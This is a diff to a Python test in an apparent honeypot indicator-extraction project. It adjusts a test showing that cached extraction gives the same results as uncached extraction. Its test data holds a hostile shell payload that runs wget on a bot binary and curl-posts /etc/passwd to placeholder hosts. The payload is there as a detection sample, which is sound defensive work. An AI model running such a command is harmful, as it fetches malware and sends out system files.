@@ -195,8 +195,7 @@ def test_ordinary_requests_have_no_iocs_and_the_host_is_never_one() -> None:
 def test_memoised_parts_give_what_a_cold_extraction_gives() -> None:
     """Download commands and URLs are memoised across requests (a bot's payload repeats while a
     cache-buster changes): a warm extraction equals a cold one, whatever came before."""
-    from honeyguard.detect.iocs import downloads
-    from honeyguard.detect.iocs import extract as extract_module
+    from honeyguard.detect.iocs import collector, downloads
 
     payloads = [
         b"cd /tmp; wget http://198.51.100.7/jaws; curl -d @/etc/passwd http://198.51.100.8/u; "
@@ -207,7 +206,8 @@ def test_memoised_parts_give_what_a_cold_extraction_gives() -> None:
 
     def cold(texts: list[bytes]) -> list[tuple[str, str, str]]:
         downloads.download_ops.cache_clear()
-        extract_module._parsed_url.cache_clear()
+        collector._parsed_url.cache_clear()
+        collector.host_class.cache_clear()
         return [(i.type, i.value, i.role) for i in extract_iocs(texts, host=b"victim.example:80")]
 
     expected = [cold([p]) for p in payloads] + [cold(payloads)]
